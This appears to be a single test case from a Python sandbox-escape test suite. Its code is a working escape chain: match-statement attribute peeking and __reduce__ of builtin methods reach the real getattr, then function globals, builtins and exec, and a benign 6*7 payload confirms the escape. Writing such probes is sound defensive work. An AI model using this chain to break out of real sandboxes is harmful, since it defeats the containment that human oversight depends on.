# id: match-builtin-reduce
# technique: reduce of a builtin method hands out the real getattr
# layer: python
# goal: capability
# success_marker: ESCAPED


U = chr(95) * 2


def prove_globals(ctx, id, g):
    """a function's globals lead to the real builtins"""
    b = g[U + 'builtins' + U]
    run = b['exec'] if isinstance(b, dict) else getattr(b, 'exec')
    ns = {}
    run('x = 6 * 7', ns)
    if ns['x'] == 42:
        ctx.log.info('ESCAPED ' + id + ': real builtins')


def peek(obj, name):
    """reads any attribute through a class pattern whose names are computed"""
    meta = type('Meta', (type,), {U + 'instancecheck' + U: lambda cls, o: True})
    any_class = meta('Any', (), {U + 'match_args' + U: (name,)})
    match obj:
        case any_class(found):
            return found
    raise ValueError('nothing under ' + name)


def attempt(ctx):
    import json
    for bound in ([].append, 'x'.join, (1).__add__, attempt.__get__(1)):
        for name in ('reduce', 'reduce_ex'):
            try:
                got = peek(bound, U + name + U)
                got = got(2) if name == 'reduce_ex' else got()
            except Exception:
                continue
            if isinstance(got, tuple):
                prove_globals(ctx, 'match-builtin-reduce', got[0](json.dumps, U + 'globals' + U))
    raise ValueError('no real getattr')


def tick(ctx):
    try:
        attempt(ctx)
    except Exception as e:
        ctx.log.info('BLOCKED match-builtin-reduce: ' + repr(e)[:160])
    ctx.log.info('DONE match-builtin-reduce')
